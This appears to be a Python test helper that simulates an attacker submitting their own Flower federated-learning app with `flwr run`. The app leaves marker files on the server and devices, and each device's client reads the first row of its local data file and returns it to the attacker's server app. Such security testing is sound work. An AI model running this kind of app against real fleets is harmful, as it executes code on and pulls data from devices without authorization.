"""An attacker who does what `flwr run` does: an app of their own for a fleet's server and its devices.

Wherever a part of the app runs it leaves a file in a folder, and the device's part reads a row.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

PROJECT = """[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "intruder"
version = "1.0.0"
description = "Leaves a file wherever it runs"
license = "Apache-2.0"
dependencies = []
[tool.hatch.build.targets.wheel]
packages = ["."]
[tool.flwr.app]
publisher = "intruder"
[tool.flwr.app.components]
serverapp = "intruder.server:app"
clientapp = "intruder.client:app"
[tool.flwr.app.config]
out = %s
devices = %d
"""
SERVER = """import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()

@app.main()
def main(grid, context):
    out, devices = Path(str(context.run_config["out"])), int(context.run_config["devices"])
    (out / "server").touch()
    until = time.monotonic() + 90
    while len(nodes := list(grid.get_node_ids())) < devices and time.monotonic() < until:
        time.sleep(0.5)
    content = RecordDict({"fleet": ConfigRecord({"charter": b"none"})})
    asked = [Message(content=content, message_type="train", dst_node_id=node) for node in nodes]
    replies = list(grid.send_and_receive(asked, timeout=90))
    said = [str(reply.error) if reply.has_error() else str(dict(reply.content["fleet"])) for reply in replies]
    (out / "replies.json").write_text(json.dumps(said))
"""
CLIENT = """import json
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
app = ClientApp()

@app.train()
def train(message, context):
    (Path(str(context.run_config["out"])) / f"device-{context.node_id}").touch()
    settings = json.loads(Path(str(context.node_config["device"])).read_text())
    row = Path(settings["data"]).read_text().splitlines()[0]
    return Message(content=RecordDict({"fleet": ConfigRecord({"row": row})}), reply_to=message)
"""


@dataclass(frozen=True)
class Loot:
    """What an attack came to.

    Attributes:
        servers, devices: on how many the app ran.
        replies: what devices answered to the app's server.
        said: what `flwr run` printed.
    """

    servers: int
    devices: int
    replies: list[str]
    said: str


class Intruder:
    """An attacker with a folder of their own and, where the fleet has TLS, its public CA certificate."""

    def __init__(self, folder: Path, authority: Path | None, devices: int = 2) -> None:
        self.out, self.home, self.project = folder / "out", folder / "home", folder / "project"
        self.authority = authority
        self.out.mkdir(parents=True)
        self.home.mkdir()
        package = self.project / "intruder"
        package.mkdir(parents=True)
        (self.project / "pyproject.toml").write_text(PROJECT % (json.dumps(str(self.out)), devices))
        for name, text in (("__init__.py", ""), ("server.py", SERVER), ("client.py", CLIENT)):
            (package / name).write_text(text)

    def environment(self) -> dict[str, str]:
        path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
        quiet = {"FLWR_TELEMETRY_ENABLED": "0", "FLWR_DISABLE_UPDATE_CHECK": "1"}
        return {**os.environ, "PATH": path, "FLWR_HOME": str(self.home), **quiet}

    def flwr(self, address: str, *arguments: object, seconds: float = 200.0) -> str:
        """Run Flower's command line against a server, and return what it said."""
        secure = "insecure = true"
        if self.authority:
            secure = f"root-certificates = {json.dumps(str(self.authority))}"
        (self.home / "config.toml").write_text(
            f'[superlink]\ndefault = "fleet"\n[superlink.fleet]\naddress = "{address}"\n{secure}\n'
        )
        command = [str(Path(sys.executable).parent / "flwr"), *map(str, arguments)]
        try:
            return subprocess.run(
                command, env=self.environment(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT, text=True, timeout=seconds, check=False,
            ).stdout  # fmt: skip
        except subprocess.TimeoutExpired as error:
            return str(error.stdout)

    def attack(self, address: str) -> Loot:
        """Do `flwr run` at a server, and count where the app ran."""
        return self.loot(self.flwr(address, "run", self.project, "fleet", "--stream"))

    def loot(self, said: str) -> Loot:
        """Count where the app ran so far."""
        replies = self.out / "replies.json"
        return Loot(
            servers=len(list(self.out.glob("server"))),
            devices=len(list(self.out.glob("device-*"))),
            replies=json.loads(replies.read_text()) if replies.is_file() else [],
            said=said,
        )
